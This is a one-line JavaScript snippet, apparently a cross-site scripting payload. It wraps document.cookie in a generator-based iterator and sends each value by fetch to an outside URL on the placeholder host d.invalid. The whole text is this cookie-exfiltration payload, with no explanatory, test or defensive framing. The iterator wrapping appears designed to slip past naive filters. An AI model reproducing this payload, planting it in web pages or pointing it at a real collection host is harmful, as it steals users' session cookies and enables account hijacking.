const it = { *[Symbol.iterator]() { yield document.cookie; } }; for (const c of it) fetch('https://d.invalid/' + c);
